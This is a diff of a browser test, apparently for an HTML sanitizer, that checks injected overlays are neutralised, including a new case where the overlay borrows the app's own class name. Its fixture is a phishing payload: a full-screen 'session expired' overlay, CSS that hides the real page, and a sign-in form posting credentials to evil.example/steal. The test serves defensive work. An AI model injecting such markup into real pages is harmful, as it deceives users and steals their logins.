@@ -14,6 +14,7 @@ const NEIGHBOUR = 'Neighbour block: it stays whatever the others do.';
 const OVERLAY_HTML =
   '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;font-size:40px">' +
   'Your session has expired</div>' +
+  '<div class="bf-modal-backdrop">Account locked</div>' +
   '<style>header, main { display: none !important }</style>' +
   '<form action="https://evil.example/steal" method="post"><p>Sign in again</p>' +
   '<label>E-mail <input type="email" name="username"></label>' +
@@ -48,6 +49,10 @@ async function expectNoOverlay(page: Page): Promise<void> {
   await expect(overlay).toBeVisible();
   expect(await overlay.evaluate((element) => getComputedStyle(element).position)).toBe('static');
   expect(await overlay.getAttribute('style')).toBeNull();
+  // The app's own fixed layer, borrowed by class name, is not borrowed.
+  const borrowed = page.getByText('Account locked');
+  expect(await borrowed.evaluate((element) => getComputedStyle(element).position)).toBe('static');
+  expect(await borrowed.getAttribute('class')).toBeNull();
   const neighbour = page.getByText(NEIGHBOUR);
   await expect(neighbour).toBeVisible();
   const box = (await neighbour.boundingBox())!;
